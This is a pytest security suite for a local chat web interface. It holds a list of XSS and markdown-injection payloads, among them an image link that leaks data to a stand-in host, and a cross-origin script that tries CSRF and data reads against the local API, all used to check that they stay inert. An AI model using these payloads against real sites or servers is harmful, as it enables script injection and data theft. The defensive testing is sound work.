"""What strangers can do to the page, in a real browser: texts that would be markup or code, and pages elsewhere that
would use the server."""

import http.server
import json
import threading

import pytest

from test_page import answered, ask

ATTACKS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg/onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "</p></article><script>window.pwned=1</script>",
    "[a](javascript:window.pwned=1)",
    "[a](JaVaScRiPt:window.pwned=1)",
    "[a](java\tscript:window.pwned=1)",
    "[a](data:text/html,<script>window.pwned=1</script>)",
    "[a](vbscript:x)",
    "[a](//elsewhere.example/x)",
    "![a](https://elsewhere.example/leak?secret)",
    "![a](x)",
    "<a href='javascript:window.pwned=1'>a</a>",
    "```<script>window.pwned=1</script>\n</code></pre><script>window.pwned=1</script>\n```",
    "``` \" onmouseover=\"window.pwned=1\nx\n```",
    "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <script>window.pwned=1</script> | c |",
    "> <base href='https://elsewhere.example/'>",
    "1. <style>* { display: none }</style>",
    "# <meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
    "**<b onclick=window.pwned=1>x</b>**",
    "<form action='https://elsewhere.example/'><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src onerror=window.pwned=1>",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
    "[__proto__](https://example.com) __proto__ constructor",
    "\u202egnp.exe https://example.com/\u202etxt.js",
]
FORBIDDEN = "script, img, iframe, object, embed, style, base, meta, form, input, svg:not([role=img]), math, video, link"


def assert_harmless(page):
    assert page.js("window.pwned") is None
    assert page.js(f"document.querySelectorAll('#frame main {FORBIDDEN.replace(', ', ', #frame main ')}').length") == 0
    assert page.js("""[...document.querySelectorAll('main a')].filter((a) =>
        !['http:', 'https:', 'mailto:'].includes(a.protocol)).map((a) => a.href)""") == []
    assert page.js("""[...document.querySelectorAll('main *')].filter((e) => [...e.attributes].some((a) =>
        a.name.startsWith('on') || a.name === 'style' || a.name === 'srcdoc')).map((e) => e.outerHTML)""") == []
    assert page.js("location.pathname") == "/"


def test_nothing_that_a_model_says_becomes_markup(start, visit):
    everything = "\n\n".join(ATTACKS)
    page = visit(start(answers=[{"think": everything, "say": everything}], ctx=32768))
    ask(page, everything)
    answered(page)
    page.click("details.think summary")
    page.until("document.querySelector('details.think .body').innerText.includes('mtext')")
    assert_harmless(page)
    assert page.text("article.user > .body").replace("\n", "") == everything.replace("\n", "").replace("\t", "\t")
    assert "<img src=x onerror='window.pwned = 1'>" in page.text("article.assistant > .body")
    page.js("document.querySelectorAll('main article *').forEach((e) => { e.dispatchEvent(new MouseEvent('mouseover', "
            "{bubbles: true})); if (e.tagName === 'SPAN') e.click(); })")
    assert_harmless(page)


def test_nothing_kept_in_the_browser_becomes_markup_or_breaks_the_page(start, visit):
    server = start(answers=[{"say": "Fine."}], ctx=32768)
    page = visit(server)
    bad = ATTACKS[1]
    chats = [
        {"id": bad, "title": bad, "used": bad, "head": "b", "nodes": [
            {"id": "a", "parent": None, "role": "user", "content": bad},
            {"id": "b", "parent": "a", "role": "assistant", "content": "\n\n".join(ATTACKS), "reasoning": bad,
             "trouble": bad, "finish": bad, "stats": {"n_out": bad, "speed": bad, "points": [bad, bad, bad]}}]},
        {"id": "loop", "title": 5, "head": "x", "nodes": [{"id": "x", "parent": "x", "role": "user", "content": "x"}]},
        {"id": "odd", "nodes": [{"id": 1, "role": "user", "content": {}}]}, [], None, 7, {"id": "none"}]
    page.js(f"{json.dumps(chats)}.forEach((c, i) => localStorage.setItem('ds4.chat.' + i, JSON.stringify(c)))")
    page.js("localStorage.setItem('ds4.chat.raw', '<script>'); localStorage.setItem('ds4.settings', '[[[')")
    page.open(page.js("location.href"))
    page.until("document.querySelector('#model-line').innerText.includes('context')")
    page.js("[...document.querySelectorAll('#mine .open')].forEach((e) => e.click())")
    page.until("document.querySelectorAll('#mine .open').length >= 1")
    for i in range(page.count("#mine .open")):
        page.js(f"document.querySelectorAll('#mine .open')[{i}].click()")
        assert_harmless(page)
    page.click("#new")
    ask(page, "hello")
    answered(page)


def test_nothing_stored_becomes_markup(start, visit, tmp_path):
    (tmp_path / "kv").mkdir(mode=0o700)
    server = start("--kv-dir", str(tmp_path / "kv"), "--show-stored", ctx=32768,
                   answers=[{"say": "\n\n".join(ATTACKS)}])
    body = {"messages": [{"role": "system", "content": ATTACKS[0]}, {"role": "user", "content": ATTACKS[1]}]}
    assert server.post("/v1/chat/completions", **body)[0] == 200
    page = visit(server)
    page.until("document.querySelector('#stored .open span')?.innerText || (showStored(), false)")
    page.click("#stored .open")
    page.until("document.querySelectorAll('article').length === 3")
    assert page.text("article.user > .body") == ATTACKS[1]
    assert_harmless(page)


def test_the_browser_itself_would_refuse_markup_and_foreign_code(start, visit):
    page = visit(start())
    for attempt in ("document.body.innerHTML = '<b>x</b>'", "document.write('x')", "eval('1')", "new Function('1')",
                    "document.createElement('script').text = '1'", "setTimeout('1')",
                    "Object.assign(document.createElement('iframe'), {srcdoc: 'x'})"):
        assert page.js(f"(() => {{ try {{ {attempt}; return 'done'; }} catch (e) {{ return e.name; }} }})()") != "done"
    assert page.js("fetch('https://elsewhere.example/').then(() => 'done', () => 'refused')") == "refused"
    assert page.js("""new Promise((done) => { const s = document.createElement('img'); s.src = '/health';
        s.onerror = () => done('refused'); s.onload = () => done('done'); document.body.append(s); })""") == "refused"
    assert page.js("window.violations.length") >= 8
    page.js("window.violations.length = 0")
    page.errors, page.requests = [], [u for u in page.requests if "elsewhere" not in u]


class Elsewhere(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>stranger</title><body></body>")

    def log_message(self, *args):
        pass


@pytest.fixture
def stranger():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


TRIES = """(async (home) => {
    const got = [], chat = JSON.stringify({messages: [{role: "user", content: "hello"}]});
    const attempt = async (path, options) => {
        try { const r = await fetch(home + path, options); got.push(r.type === "opaque" ? "" : await r.text()); }
        catch { got.push(""); }
    };
    await attempt("v1/models", {});
    await attempt("v1/models", {mode: "no-cors"});
    await attempt("v1/ds4/conversations", {});
    await attempt("health", {credentials: "include"});
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/json"])
        for (const mode of ["cors", "no-cors"])
            await attempt("v1/chat/completions", {method: "POST", mode, body: chat, headers: {"Content-Type": type}});
    await attempt("v1/chat/completions", {method: "OPTIONS"});
    const load = (name, attribute, path) => new Promise((done) => {
        const e = document.createElement(name); e.onload = () => done(); e.onerror = () => done();
        e[attribute] = home + path; document.body.append(e); setTimeout(done, 5000); });
    await load("script", "src", "v1/models");
    await load("iframe", "src", "");
    await load("img", "src", "health");
    const frame = document.querySelector("iframe");
    try { got.push(frame.contentDocument?.body?.innerText ?? ""); } catch { got.push(""); }
    navigator.sendBeacon(home + "v1/chat/completions", chat);
    const [form, field, sink] = ["form", "input", "iframe"].map((name) => document.createElement(name));
    sink.name = "sink"; form.method = "POST"; form.enctype = "text/plain"; form.action = home + "v1/chat/completions";
    form.target = "sink"; field.name = chat.slice(0, -1) + ',"x":"'; field.value = '"}';
    form.append(field); document.body.append(sink, form);
    await new Promise((done) => { sink.onload = done; setTimeout(done, 5000); form.submit(); });
    return got.filter(Boolean);
})"""


def test_a_page_elsewhere_gets_nothing_and_starts_nothing(browser, start, stranger):
    server = start()
    page = browser.page()
    page.open(stranger)
    assert page.js(f"{TRIES}('http://127.0.0.1:{server.port}/')") == []
    assert server.metric("requests_total") == 0
    page.close()
